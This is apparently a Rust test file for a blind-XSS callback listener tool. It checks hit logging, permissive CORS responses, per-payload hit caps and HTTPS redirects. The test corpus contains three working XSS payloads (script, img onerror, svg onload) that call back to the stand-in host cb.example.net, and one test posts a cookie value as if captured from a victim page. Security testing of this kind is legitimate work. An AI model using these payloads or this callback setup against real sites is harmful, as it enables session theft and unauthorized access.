use std::path::Path;
use axum::body::Body;
use axum::http::{Request, StatusCode};
use http_body_util::BodyExt;
use tower::ServiceExt;
use xssprobe::callback::{build_redirect_router, build_router, HitLedger, ListenerState};
use xssprobe::payloads::Corpus;

const CORPUS: &str = "<script src=https://cb.example.net/?id=1></script>\n\
\"><img src=x onerror=import('//cb.example.net/?id=2')>\n\
<svg onload=fetch('//cb.example.net/?id=3')>\n";

fn state(dir: &Path, max_hits: Option<u32>) -> ListenerState {
    let ledger = HitLedger::new(&dir.join("working.txt"), max_hits);
    ListenerState::new(ledger, Corpus::parse(CORPUS), "http")
}

fn get(uri: &str) -> Request<Body> {
    Request::builder().uri(uri).body(Body::empty()).unwrap()
}

async fn body_string(response: axum::response::Response) -> String {
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    String::from_utf8(bytes.to_vec()).unwrap()
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_default()
}

#[tokio::test]
async fn test_get_hit_is_answered_and_recorded() {
    let dir = tempfile::tempdir().unwrap();
    let app = build_router(state(dir.path(), None));

    let request = Request::builder()
        .uri("/x.js?id=2")
        .header("referer", "https://victim.test/admin")
        .body(Body::empty())
        .unwrap();
    let response = app.oneshot(request).await.unwrap();

    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()["access-control-allow-origin"], "*");
    assert_eq!(response.headers()["content-type"], "application/javascript");
    assert_eq!(body_string(response).await, "// ok");

    let log = read(&dir.path().join("xss_hits.log"));
    assert!(log.contains("ID=2 IP=unknown Protocol=HTTP Referer=https://victim.test/admin"));

    let result = read(&dir.path().join("working.txt"));
    assert!(result.contains("WORKING XSS PAYLOADS - CALLBACK RESULTS"));
    assert!(result.contains("] Payload ID: 2\n"));
    assert!(result.contains("import('//cb.example.net/?id=2')"));
}

#[tokio::test]
async fn test_post_gets_json_ack() {
    let dir = tempfile::tempdir().unwrap();
    let app = build_router(state(dir.path(), None));

    let request = Request::builder()
        .method("POST")
        .uri("/?id=1")
        .body(Body::from("cookie=abc"))
        .unwrap();
    let response = app.oneshot(request).await.unwrap();

    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()["content-type"], "application/json");
    assert_eq!(body_string(response).await, r#"{"status":"ok"}"#);
    assert!(read(&dir.path().join("xss_hits.log")).contains("ID=1"));
}

#[tokio::test]
async fn test_preflight_allows_any_origin() {
    let dir = tempfile::tempdir().unwrap();
    let app = build_router(state(dir.path(), None));

    let request = Request::builder().method("OPTIONS").uri("/?id=1").body(Body::empty()).unwrap();
    let response = app.oneshot(request).await.unwrap();

    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()["access-control-allow-origin"], "*");
    assert_eq!(response.headers()["access-control-allow-methods"], "GET, POST, OPTIONS");
    assert_eq!(response.headers()["access-control-allow-headers"], "Content-Type");
    // Preflights are not hits.
    assert!(!dir.path().join("xss_hits.log").exists());
}

#[tokio::test]
async fn test_cap_limits_recorded_hits() {
    let dir = tempfile::tempdir().unwrap();
    let listener = state(dir.path(), Some(2));
    let app = build_router(listener.clone());

    for _ in 0..5 {
        let response = app.clone().oneshot(get("/?id=3")).await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
    }

    assert_eq!(listener.ledger.hits_for(3), 2);
    let log = read(&dir.path().join("xss_hits.log"));
    assert_eq!(log.lines().count(), 2);

    let result = read(&dir.path().join("working.txt"));
    assert!(result.contains("CTF Mode: Max 2 hits per payload"));
    assert!(result.contains("] Payload ID: 3 (Hit 1/2)"));
    assert!(result.contains("] [CONFIRMED] Payload ID: 3 (Hit 2/2)"));
    assert_eq!(result.matches("Payload ID: 3").count(), 2);
}

#[tokio::test]
async fn test_unknown_position_only_logged() {
    let dir = tempfile::tempdir().unwrap();
    let app = build_router(state(dir.path(), None));

    let response = app.oneshot(get("/?id=99")).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);

    assert!(read(&dir.path().join("xss_hits.log")).contains("ID=99"));
    assert!(!dir.path().join("working.txt").exists());
}

#[tokio::test]
async fn test_requests_without_valid_id_are_ignored() {
    let dir = tempfile::tempdir().unwrap();
    let app = build_router(state(dir.path(), None));

    for uri in ["/", "/favicon.ico", "/?id=abc", "/?id=0", "/?id=-4"] {
        let response = app.clone().oneshot(get(uri)).await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
    }
    assert!(!dir.path().join("xss_hits.log").exists());
    assert!(!dir.path().join("working.txt").exists());
}

#[tokio::test]
async fn test_forwarded_proto_wins_over_scheme() {
    let dir = tempfile::tempdir().unwrap();
    let app = build_router(state(dir.path(), None));

    let request = Request::builder()
        .uri("/?id=1")
        .header("x-forwarded-proto", "https")
        .body(Body::empty())
        .unwrap();
    app.oneshot(request).await.unwrap();

    assert!(read(&dir.path().join("xss_hits.log")).contains("Protocol=HTTPS Referer=Direct"));
}

#[tokio::test]
async fn test_finalize_sorts_results_by_id() {
    let dir = tempfile::tempdir().unwrap();
    let listener = state(dir.path(), None);
    let app = build_router(listener.clone());

    for id in [3, 1, 2] {
        app.clone().oneshot(get(&format!("/?id={}", id))).await.unwrap();
    }
    listener.ledger.finalize().await;

    let result = read(&dir.path().join("working.txt"));
    let order: Vec<usize> = ["Payload ID: 1", "Payload ID: 2", "Payload ID: 3"]
        .iter()
        .map(|needle| result.find(needle).unwrap())
        .collect();
    assert!(order[0] < order[1] && order[1] < order[2]);
    assert!(result.starts_with(&"=".repeat(80)));

    let log = read(&dir.path().join("xss_hits.log"));
    let ids: Vec<&str> = log
        .lines()
        .filter_map(|l| l.split_whitespace().nth(2))
        .collect();
    assert_eq!(ids, ["ID=1", "ID=2", "ID=3"]);
}

#[tokio::test]
async fn test_redirect_listener_points_to_https() {
    let app = build_redirect_router();
    let request = Request::builder()
        .uri("/hook.js?id=7")
        .header("host", "cb.example.net")
        .body(Body::empty())
        .unwrap();
    let response = app.oneshot(request).await.unwrap();

    assert_eq!(response.status(), StatusCode::MOVED_PERMANENTLY);
    assert_eq!(response.headers()["location"], "https://cb.example.net/hook.js?id=7");
}
